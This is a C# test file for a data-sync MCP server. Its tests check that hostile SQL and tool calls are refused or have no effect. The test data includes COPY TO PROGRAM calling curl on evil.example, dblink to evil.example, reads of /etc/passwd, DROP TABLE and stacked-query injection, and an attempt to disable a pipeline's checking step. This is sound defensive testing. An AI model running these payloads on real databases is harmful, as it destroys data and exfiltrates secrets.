using System.Text.Json.Nodes;
using SyncMcp.Tests.Testing;

namespace SyncMcp.Tests.Attacks;

/// <summary>Code that runs with the rights of a database, an engine or a server: as a query, a transformation, an event or a project that stands elsewhere.</summary>
public sealed class CodeAttackTests
{
    public static TheoryData<string> Statements { get; } =
    [
        "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d",
        "SELECT dblink_exec('host=evil.example', 'SELECT 1')",
        "SELECT pg_read_file('/etc/passwd')",
        "CREATE RULE r AS ON INSERT TO orders DO INSTEAD NOTHING",
        "DROP TABLE orders",
        "ATTACH DATABASE 'engine.db' AS e",
        "COPY orders TO PROGRAM 'curl evil.example'",
    ];

    public static TheoryData<string> Queries { get; } =
    [
        "REPLICATE [x] SELECT dblink_exec('host=evil.example', 'SELECT 1') AS a FROM [orders]",
        "REPLICATE [x] SELECT pg_read_file('/etc/passwd') AS a FROM [orders]",
        "REPLICATE [x] SELECT load_extension('/tmp/x') AS a FROM [orders]",
        "REPLICATE [x] SELECT readfile('/etc/passwd') AS a FROM [orders]",
        "REPLICATE [x] SELECT (SELECT name FROM main.secrets) AS a FROM [orders]",
        "REPLICATE [x] SELECT main.secrets.name AS a FROM [orders]",
        "REPLICATE [x] SELECT [main].[name] AS a FROM [orders]",
        "REPLICATE [x] SELECT * FROM [main].[secrets]",
        "REPLICATE [x] SELECT * FROM main.secrets",
        "REPLICATE [x] SELECT * FROM [orders], [main.secrets]",
        "REPLICATE [x] SELECT * FROM [orders] UNION SELECT * FROM secrets",
        "REPLICATE [x] SELECT * FROM [orders] WHERE id IN (SELECT id FROM main.secrets)",
        "REPLICATE [x] SELECT * FROM [orders] WHERE EXISTS (SELECT 1)",
        "REPLICATE [x] SELECT id AS \"a\"\"; DROP TABLE secrets; --\", 1 FROM [orders]; DROP TABLE secrets",
        "REPLICATE [x] SELECT [id]::regclass AS a FROM [orders]",
        "REPLICATE [x] ([id] INTEGER DEFAULT (randomblob(1000000000))) SELECT * FROM [orders]",
        "REPLICATE [x] ([id] INTEGER); DROP TABLE secrets",
        "REPLICATE [x] SELECT CAST(id AS regclass) AS a FROM [orders]",
        "REPLICATE [x] SELECT id AS a FROM [orders] /* */ ; VACUUM INTO 'copy.db'",
        "REPLICATE [x] SELECT id COLLATE evil AS a FROM [orders]",
        "REPLICATE [x] SELECT printf('%s', id) AS a FROM [orders]",
        "REPLICATE [x] SELECT id->'$.a' AS a FROM [orders]",
        "PRAGMA writable_schema = 1",
        "ATTACH 'engine.db' AS e",
    ];

    [Theory]
    [MemberData(nameof(Statements))]
    public async Task A_drafted_transformation_runs_nowhere_before_its_SQL_was_shown_whole_and_typed_for(string sql)
    {
        await using var session = await ReadingTime.DecliningSessionAsync();
        var shop = await SmallShop.OpenAsync(session);
        Sql.Run(shop.DestinationFile, "CREATE TABLE orders (id INTEGER PRIMARY KEY); INSERT INTO orders VALUES (1)");
        await DraftAsync(session, sql);

        await Refused.ByAPersonAsync(session, "execute_transformation", new { transformation_id = "net" }, typed: true, $"  | {sql}");

        Assert.Equal(["1"], Sql.Rows(shop.DestinationFile, "SELECT count(*) FROM orders"));
    }

    [Fact]
    public async Task A_draft_that_is_hung_on_an_approved_job_does_not_start_with_it()
    {
        await using var session = await ReadingTime.DecliningSessionAsync();
        var shop = await SmallShop.OpenAsync(session);
        var job = await shop.JobAsync("customers");
        await shop.RunWellAsync(job);
        await DraftAsync(session, "DELETE FROM customers", new() { ["type"] = "AfterJob", ["after_job"] = "copy" });

        await Refused.ByAPersonAsync(session, "execute_job", new { job_id = job }, typed: true, "  | DELETE FROM customers");

        Assert.Equal([$"{SmallShop.Customers}"], Sql.Rows(shop.DestinationFile, "SELECT count(*) FROM customers"));
    }

    [Theory]
    [InlineData("""{"value": [], "@odata.nextLink": "transformations?$skip=1000"}""")]
    [InlineData("""{"items": [], "total": 1001}""")]
    public async Task A_draft_that_is_pushed_off_the_first_page_is_not_taken_for_none(string answer)
    {
        var company = await Company.OpenAsync();
        await using var server = company.Server;
        await using var session = await company.ApprovedAsync();
        server.On("GET /workspaces/default/transformations", answer);

        (await session.CallAsync("execute_job", new { job_id = Company.PayrollToArchive })).Refused("list_incomplete");

        Assert.Equal(1, company.Runs(Company.PayrollToArchive));
    }

    [Fact]
    public async Task A_dbt_project_of_the_attacker_does_not_run()
    {
        const string project = "30000000-0000-0000-0000-000000000001";
        var company = await Company.OpenAsync();
        await using var server = company.Server;
        server.On($"GET /transformations/{project}", JsonNode.Parse(
                $$"""{"id": "{{project}}", "name": "project", "type": "DBT", "destination_connection": { "id": "{{Company.Archive}}" }, "settings": { "project_path": "/tmp/evil-dbt" } }""")!)
            .List($"/transformations/{project}/tasks", [])
            .On($"POST /transformations/{project}/execute", new JsonObject { ["id"] = "r", ["status"] = "Starting" });
        await using var session = await company.ApprovedAsync();

        await Refused.ByAPersonAsync(session, "execute_transformation", new { transformation_id = project }, typed: true, "/tmp/evil-dbt", "nobody is shown");

        Assert.DoesNotContain($"POST /transformations/{project}/execute", server.Requests);
    }

    [Theory]
    [MemberData(nameof(Queries))]
    public async Task No_expression_of_a_query_reaches_the_other_database_or_a_function_with_effects(string query)
    {
        await using var session = await SyncSession.StartAsync();
        session.Person.Confirms(); // a person who types whatever is asked
        var shop = await SmallShop.OpenAsync(session);
        Sql.Run(shop.DestinationFile, "CREATE TABLE secrets (id INTEGER PRIMARY KEY, name TEXT); INSERT INTO secrets VALUES (1, 'hidden')");
        var job = await shop.JobAsync();

        if ((await session.CallAsync("add_job_task", new { job_id = job, query })) is { IsError: false }
            && (await session.CallAsync("execute_job", new { job_id = job })) is { IsError: false })
        {
            Assert.NotEqual("Successful", (string?)(await session.RunEndedAsync(job))["status"]);
        }

        Assert.Equal(["hidden"], Sql.Rows(shop.DestinationFile, "SELECT name FROM secrets"));
        Assert.Empty(Sql.Rows(shop.DestinationFile, "SELECT name FROM sqlite_schema WHERE name = 'x'"));
        Assert.DoesNotContain("copy.db", Directory.EnumerateFiles(session.File(""), "*", SearchOption.AllDirectories).Select(Path.GetFileName));
    }

    [Fact]
    public async Task A_view_at_the_source_does_not_read_the_destination_it_is_attached_to()
    {
        await using var session = await SyncSession.StartAsync();
        session.Person.Confirms();
        var shop = await SmallShop.OpenAsync(session);
        Sql.Run(shop.DestinationFile, "CREATE TABLE secrets (id INTEGER PRIMARY KEY, name TEXT); INSERT INTO secrets VALUES (1, 'hidden')");
        Sql.Run(shop.SourceFile, "CREATE TABLE secrets (id INTEGER PRIMARY KEY, name TEXT); CREATE VIEW v AS SELECT id, name FROM main.secrets; INSERT INTO secrets VALUES (2, 'own')");
        var job = await shop.JobAsync();
        (await session.CallAsync("add_job_task", new { job_id = job, query = "REPLICATE [x] SELECT * FROM [v]" })).Ok();

        var run = await shop.RunAsync(job);

        // SQLite looks for such a name in the view's own file, or refuses the file.
        if ((string?)run["status"] == "Successful")
            Assert.Equal(["own"], Sql.Rows(shop.DestinationFile, "SELECT name FROM x"));
        else
            Assert.Empty(Sql.Rows(shop.DestinationFile, "SELECT name FROM sqlite_schema WHERE name = 'x'"));
    }

    [Theory]
    [InlineData("delete_pipeline_step")]
    [InlineData("update_pipeline_step")]
    [InlineData("update_event")]
    public async Task The_checking_step_of_an_armed_pipeline_is_not_taken_out_or_hollowed(string tool)
    {
        await using var session = await ReadingTime.DecliningSessionAsync();
        var line = await Guard.Line.DraftAsync(session, "Event report", "Replication copy");
        session.Person.Confirms();
        await line.CallAsync("update_pipeline", new { pipeline_id = "nightly", schedule = Guard.Line.Daily });
        var step = (await session.CallAsync("list_pipeline_steps", new { pipeline_id = "nightly" })).Ok().Items[0];
        object arguments = tool switch
        {
            "delete_pipeline_step" => new { pipeline_id = "nightly", step_id = (string)step["id"]! },
            "update_pipeline_step" => new { pipeline_id = "nightly", step_id = (string)step["id"]!, enabled = false },
            _ => new { pipeline_id = "nightly", event_id = "report", script = "// all is well" },
        };

        await Refused.ByAPersonAsync(session, tool, arguments, typed: tool == "update_event", tool == "update_event" ? "  | // all is well" : "nightly");

        var steps = (await session.CallAsync("list_pipeline_steps", new { pipeline_id = "nightly" })).Ok().Items;
        Assert.Equal(2, steps.Count);
        Assert.NotEqual("false", steps[0]["enabled"]?.ToJsonString());
    }

    private static async Task DraftAsync(SyncSession session, string sql, JsonObject? trigger = null)
    {
        (await session.CallAsync("create_transformation", new JsonObject { ["name"] = "net", ["destination_connection"] = "warehouse", ["trigger"] = trigger })).Ok();
        (await session.CallAsync("add_transformation_task", new { transformation_id = "net", name = "first", query = sql })).Ok();
        Assert.Empty(session.Person.Questions);
    }
}
